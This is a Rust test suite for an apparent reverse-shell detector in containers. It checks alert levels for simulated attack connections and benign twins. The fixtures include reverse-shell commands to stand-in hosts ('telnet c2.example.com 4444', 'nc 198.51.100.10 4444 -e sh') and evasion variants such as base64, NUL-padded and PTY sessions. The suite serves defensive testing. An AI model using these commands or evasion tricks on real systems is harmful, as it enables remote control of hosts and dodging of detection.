//! Every row of the verdict table: the brief's own attack, its variants and its innocent twins.

use std::net::IpAddr;

use engine::Level;
use observation::{ConnState, ContainerState, Grammar, Side, Transport};

use crate::talk::Talk;
use crate::world::{Box_, START_MS, World, words};

pub(crate) const FAR: IpAddr = IpAddr::V4(std::net::Ipv4Addr::new(198, 51, 100, 10));
const NEAR_PORT: u16 = 52_224;

/// Whether name, arguments and port tell what it is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Mask {
    Open,
    Masked,
}

/// Whether it was started with `-i`.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Stdin {
    Open,
    Closed,
}

const BOTH: [Mask; 2] = [Mask::Open, Mask::Masked];

/// A throw-away container that goes to the far end at 250 ms, with the port.
pub(crate) fn client(world: &mut World, mask: Mask, stdin: Stdin) -> (Box_, Talk) {
    let (command, port) = match mask {
        Mask::Open => ("telnet c2.example.com 4444", 4444),
        Mask::Masked => ("/opt/healthd -", 7070),
    };
    let mut it = Box_::throw_away(2, command);
    it.privilege.open_stdin = stdin == Stdin::Open;
    world.start(&it);
    let ms = START_MS + 250;
    if mask == Mask::Open {
        world.dns(&it, ms - 4, "c2.example.com", Ok(FAR));
    }
    let talk = Talk::open(&it, NEAR_PORT, (FAR, port), ms);
    world.socket(&talk, it.cgroup, it.pid);
    (it, talk)
}

fn level_of(world: &World) -> Level {
    world.alerts().iter().map(|alert| alert.level).max().unwrap_or(Level::Info)
}

/// The highest level that a conversation gets, masked or not.
fn high(name: &str, speak: impl Fn(&mut Talk)) {
    for mask in BOTH {
        let mut world = World::new();
        let (it, mut talk) = client(&mut world, mask, Stdin::Open);
        speak(&mut talk);
        let ended = talk.now_ms + 5;
        world.talk(talk.end());
        world.exit(&it, ended, 0);
        let alert = world.alert();
        assert!(alert.level >= Level::High, "{name} {mask:?}: {alert:#?}");
        assert_eq!(alert.subjects[0].container.as_ref().unwrap().id, it.id);
        assert_eq!(alert.subjects[0].process.as_ref().unwrap().pid, it.pid);
    }
}

pub(crate) fn literal(world: &mut World, mask: Mask) {
    let (it, mut talk) = client(world, mask, Stdin::Closed);
    talk.far(2, "id; uname -a\n");
    world.talk(talk.end());
    world.exit(&it, START_MS + 270, 0);
}

#[test]
fn the_briefs_own_command_is_high() {
    for mask in BOTH {
        let mut world = World::new();
        literal(&mut world, mask);
        let alert = world.alert();
        assert_eq!(alert.level, Level::High, "{mask:?} {alert:#?}");
        assert_eq!(alert.peer.endpoint.unwrap().address, FAR);
        assert_eq!((alert.subject_count, alert.blind.len()), (1, 0));
        let subject = &alert.subjects[0];
        assert_eq!(subject.flows[0].excerpts[0].bytes, b"id; uname -a\n");
        assert_eq!((subject.flows[0].sent_bytes, subject.flows[0].received_bytes), (0, 13));
        if mask == Mask::Open {
            assert_eq!(alert.peer.names[0].name, "c2.example.com");
            assert_eq!(alert.sum_db, 15, "the sum of alert.md");
        }
    }
}

#[test]
fn an_interactive_session_is_high_at_its_first_answer() {
    high("-i", |talk| {
        talk.far(300, "id\n").near(8, "uid=0(root) gid=0(root)\n").wait(2000);
    });
}

#[test]
fn an_accepted_silence_depends_on_who_waits() {
    let verdict = |mask, stdin, held: u64| {
        let mut world = World::new();
        let (it, mut talk) = client(&mut world, mask, stdin);
        talk.wait(held);
        let ended = talk.now_ms + 5;
        world.talk(talk.end());
        world.exit(&it, ended, 0);
        world.alert().level
    };
    assert_eq!(verdict(Mask::Open, Stdin::Open, 12_000), Level::Medium);
    assert_eq!(verdict(Mask::Masked, Stdin::Open, 12_000), Level::Medium);
    assert_eq!(verdict(Mask::Open, Stdin::Closed, 2), Level::Medium);
    assert_eq!(verdict(Mask::Masked, Stdin::Closed, 2), Level::Low);
}

#[test]
fn refused_is_low() {
    let mut world = World::new();
    let mut it = Box_::throw_away(2, "telnet 198.51.100.10 4445");
    it.privilege.open_stdin = true;
    world.start(&it);
    let near = (it.address, NEAR_PORT);
    let mut talk = Talk::open_at(it.port, Transport::Tcp, near, (FAR, 4445), START_MS + 250);
    world.socket(&talk, it.cgroup, it.pid);
    world.talk(talk.wait(1).end());
    assert_eq!(world.alert().level, Level::Low);
}

#[test]
fn a_name_that_does_not_resolve_is_low() {
    let mut world = World::new();
    let it = Box_::throw_away(2, "telnet nowhere.example.com 4444");
    world.start(&it);
    world.dns(&it, START_MS + 250, "nowhere.example.com", Err(3));
    world.dns(&it, START_MS + 255, "nowhere.example.com.lan", Err(3));
    world.exit(&it, START_MS + 280, 1);
    let alert = world.alert();
    assert_eq!((alert.level, alert.peer.endpoint), (Level::Low, None));
    assert_eq!(alert.peer.names[0].name, "nowhere.example.com");
}

#[test]
fn a_name_that_resolves_at_the_second_try_is_no_alert_of_its_own() {
    let mut world = World::new();
    let it = Box_::throw_away(2, "telnet c2.example.com 4444");
    world.start(&it);
    world.dns(&it, START_MS + 250, "c2.example.com", Err(2));
    world.dns(&it, START_MS + 300, "c2.example.com", Ok(FAR));
    let mut talk = Talk::open(&it, NEAR_PORT, (FAR, 4444), START_MS + 310);
    talk.far(2, "id\n");
    world.talk(talk.end());
    assert_eq!(world.alert().level, Level::High);
}

#[test]
fn a_program_that_the_image_has_not_is_info() {
    let mut world = World::new();
    let it = Box_::throw_away(2, "telnet c2.example.com 4444");
    world.create(&it);
    world.describe(&it, START_MS + 60);
    world.state(&it, START_MS + 200, ContainerState::Exited(Some(127)));
    assert_eq!(world.alert().level, Level::Info);
}

#[test]
fn a_shell_by_other_means_is_high() {
    let shell = |talk: &mut Talk| {
        talk.far(400, "id\n").near(6, "uid=0(root) gid=0(root)\n");
        talk.far(900, "ls /\n").near(7, "bin\ndev\netc\nproc\n");
    };
    high("nc -e sh, /dev/tcp, port 6379, IPv6", shell);
    high("base64 lines", |talk| {
        talk.far(500, "aWQ7IHVuYW1lIC1hCg==\n").near(9, "dWlkPTAocm9vdCkK\n");
        talk.far(1300, "bHMgLwo=\n").near(9, "YmluCmRldgo=\n");
    });
    high("a PTY, keystroke by keystroke", |talk| {
        talk.near(4, "/ # ").wait(1500);
        for key in ["i", "d"] {
            talk.far(130, key).near(1, key);
        }
        talk.far(130, "\n").near(2, "\r\nuid=0(root) gid=0(root)\r\n/ # ");
    });
    high("NUL-padded segments of one byte", |talk| {
        for part in ["\0e", "\0c", "\0h\0o", "\0 \0h\0i\0\n\0"] {
            talk.far(20, part);
        }
        talk.near(15, "hello\n").far(1200, "\0l\0s\0\n\0").near(9, "notes.txt\n");
    });
    high("a command after twenty idle minutes", |talk| {
        talk.far(1_200_000, "id\n").near(6, "uid=0(root) gid=0(root)\n");
    });
}

#[test]
fn a_grammar_that_is_left_hides_no_shell() {
    high("an HTTP exchange that turns into a shell", |talk| {
        talk.say(Side::Originator, 1, "GET / HTTP/1.0\r\n\r\n", Grammar::Obeyed);
        talk.say(Side::Responder, 3, "HTTP/1.0 200 OK\r\n\r\nhello\n", Grammar::Obeyed);
        talk.say(Side::Responder, 900, "id\n", Grammar::Left);
        talk.say(Side::Originator, 5, "uid=0(root) gid=0(root)\n", Grammar::Left);
        talk.protocols.push("http");
    });
    high("an SMTP banner, then a shell", |talk| {
        talk.say(Side::Responder, 3, "220 mail.example.com ESMTP\r\n", Grammar::Obeyed);
        talk.say(Side::Responder, 900, "id\n", Grammar::Left);
        talk.say(Side::Originator, 5, "uid=0(root) gid=0(root)\n", Grammar::Left);
        talk.protocols.push("smtp");
    });
}

#[test]
fn one_command_per_connection_is_high() {
    let mut world = World::new();
    let it = Box_::throw_away(2, "/opt/job");
    world.start(&it);
    for round in 0..3 {
        let ms = START_MS + 300 + round * 1100;
        let port = NEAR_PORT + u16::try_from(round).unwrap();
        let mut talk = Talk::open(&it, port, (FAR, 8443), ms);
        world.socket(&talk, it.cgroup, it.pid);
        talk.far(100, "id; exit\n").near(5, "uid=0(root) gid=0(root)\n");
        world.talk(talk.end());
    }
    let alert = world.alert();
    assert!(alert.level >= Level::High);
    assert_eq!((alert.subject_count, alert.subjects[0].flow_count), (1, 3));
}

#[test]
fn over_udp_is_high() {
    let mut world = World::new();
    let it = Box_::throw_away(2, "/opt/healthd");
    world.start(&it);
    let near = (it.address, NEAR_PORT);
    let mut talk = Talk::open_at(it.port, Transport::Udp, near, (FAR, 5353), START_MS + 250);
    talk.near(0, "ready\n").far(500, "id\n").near(6, "uid=0(root) gid=0(root)\n");
    talk.far(900, "ls /\n").near(7, "bin\ndev\netc\nproc\n");
    world.talk(talk.end());
    assert!(world.alert().level >= Level::High);
}

#[test]
fn to_a_relay_on_the_same_bridge_is_high() {
    let mut world = World::new();
    let relay = Box_::long_running(3, "sleep 300");
    world.start(&relay);
    let it = Box_::throw_away(2, "/opt/job");
    world.start(&it);
    let mut talk = Talk::open(&it, NEAR_PORT, (relay.address, 4444), START_MS + 300);
    talk.far(400, "id\n").near(6, "uid=0(root) gid=0(root)\n");
    // The relay's own view of the same traffic.
    let mut other = talk.clone();
    other.key.port = relay.port;
    other.local = observation::LocalSide::Responder;
    other.flow = crate::world::flow_id(&(other.key, 1));
    world.talk(talk.end());
    world.talk(other.end());
    let alert = world.alert();
    assert!(alert.level >= Level::High);
    assert_eq!(alert.subjects[0].container.as_ref().unwrap().id, it.id);
    assert_eq!(alert.peer.names[0].name, "name-3");
}

#[test]
fn exec_in_a_container_that_has_run_for_long_is_high() {
    for command in ["nc 198.51.100.10 4444 -e sh", "/opt/healthd 7070"] {
        let mut world = World::new();
        let it = Box_::long_running(2, "/srv/shop --port 80");
        world.start(&it);
        world.exec(&it, START_MS + 100, command);
        world.process(&it, 4700, 850, START_MS + 140, &words(command));
        let mut talk = Talk::open(&it, NEAR_PORT, (FAR, 4444), START_MS + 200);
        world.socket(&talk, it.cgroup, 4700);
        talk.far(400, "id\n").near(6, "uid=0(root) gid=0(root)\n");
        world.talk(talk.end());
        let alert = world.alert();
        assert!(alert.level >= Level::High, "{alert:#?}");
        assert_eq!(alert.subjects[0].process.as_ref().unwrap().pid, 4700);
        assert!(alert.evidence.iter().any(|term| term.observed.contains("running container")));
    }
}

#[test]
fn an_obeyed_grammar_is_below_medium_whoever_speaks_it() {
    for (mask, at_most) in [(Mask::Open, Level::Low), (Mask::Masked, Level::Info)] {
        let mut world = World::new();
        let (_, mut talk) = client(&mut world, mask, Stdin::Open);
        talk.say(Side::Responder, 3, "200 news.example.com ready\r\n", Grammar::Obeyed);
        talk.say(Side::Originator, 900, "MODE READER\r\n", Grammar::Obeyed);
        talk.say(Side::Responder, 3, "200 news\r\n", Grammar::Obeyed);
        talk.protocols.push("nntp");
        world.talk(talk.end());
        assert_eq!(level_of(&world), at_most);
        assert_eq!(world.alerts().len(), usize::from(mask == Mask::Open));
    }
}

#[test]
fn a_banner_that_was_cut_in_two_is_explained_when_it_is_whole() {
    let mut world = World::new();
    let (_, mut talk) = client(&mut world, Mask::Masked, Stdin::Open);
    talk.say(Side::Responder, 3, "20", Grammar::None);
    talk.say(Side::Responder, 400, "0 news.example.com ready\r\n", Grammar::Obeyed);
    talk.say(Side::Originator, 900, "MODE READER\r\n", Grammar::Obeyed);
    talk.protocols.push("nntp");
    world.talk(talk.end());
    assert_eq!(world.alerts().len(), 0);
}

#[test]
fn a_probe_is_below_medium() {
    let probe = |it: &Box_, exec: Option<&str>| {
        let mut world = World::new();
        world.start(it);
        if let Some(command) = exec {
            world.exec(it, START_MS + 150, command);
            world.process(it, 4700, 850, START_MS + 190, &words(command));
        }
        let pid = if exec.is_some() { 4700 } else { it.pid };
        let mut talk = Talk::open(it, NEAR_PORT, (FAR, 4444), START_MS + 250);
        world.socket(&talk, it.cgroup, pid);
        world.talk(talk.wait(1).end());
        level_of(&world)
    };
    assert!(probe(&Box_::throw_away(2, "nc -z 198.51.100.10 4444"), None) < Level::Medium);
    assert!(probe(&Box_::throw_away(2, "/opt/updater -z"), None) < Level::Medium);
    let app = Box_::long_running(2, "/srv/app");
    assert!(probe(&app, Some("nc -z 198.51.100.10 4444")) < Level::Medium);
    assert_eq!(probe(&app, None), Level::Info);
}

#[test]
fn a_debugger_of_a_neighbour_is_below_medium() {
    let mut world = World::new();
    let (_, mut talk) = client(&mut world, Mask::Open, Stdin::Open);
    talk.say(Side::Responder, 3, "> /app/order.py(12)total()\n(Pdb) ", Grammar::Obeyed);
    talk.say(Side::Originator, 900, "where\n", Grammar::Obeyed);
    talk.say(Side::Responder, 3, "  /app/main.py(3)<module>()\n(Pdb) ", Grammar::Obeyed);
    talk.protocols.push("pdb");
    world.talk(talk.end());
    assert!(world.alert().level < Level::Medium);
}

#[test]
fn a_container_that_is_killed_ends_its_silence() {
    let mut world = World::new();
    let (it, talk) = client(&mut world, Mask::Open, Stdin::Closed);
    // With its namespace goes its socket: nobody sees the end of the flow.
    world.talk(talk);
    world.exit(&it, START_MS + 270, 137);
    let alert = world.alert();
    assert_eq!(alert.level, Level::Medium);
    assert!(alert.evidence.iter().any(|term| term.observed.contains("closed without a word")));
}

#[test]
fn a_container_that_never_came_to_run_is_info() {
    let mut world = World::new();
    let it = Box_ { pid: 0, ..Box_::throw_away(2, "telnet c2.example.com 4444") };
    world.create(&it);
    world.describe(&it, START_MS + 60);
    world.state(&it, START_MS + 200, ContainerState::Removed);
    assert_eq!(world.alert().level, Level::Info);
}

#[test]
fn a_client_that_commands_in_no_known_grammar_is_silent() {
    let mut world = World::new();
    let (_, mut talk) = client(&mut world, Mask::Masked, Stdin::Open);
    talk.near(1, "GET_ITEM 5\n").far(2, "ITEM apple\n");
    talk.near(5000, "GET_ITEM 6\n").far(2, "ITEM pear\n");
    world.talk(talk.end());
    assert_eq!(world.alerts().len(), 0);
}

#[test]
fn telnet_options_excuse_nobody() {
    high("telnet with negotiation", |talk| {
        talk.protocols.push("telnet");
        talk.say(Side::Responder, 300, "id\n", Grammar::None);
        talk.say(Side::Originator, 8, "uid=0(root) gid=0(root)\n", Grammar::None);
    });
}

#[test]
fn a_reset_by_the_container_changes_nothing() {
    let mut world = World::new();
    let (_, mut talk) = client(&mut world, Mask::Open, Stdin::Closed);
    talk.far(2, "id; uname -a\n");
    world.talk(talk.end_as(ConnState::RstO));
    assert_eq!(world.alert().level, Level::High);
}
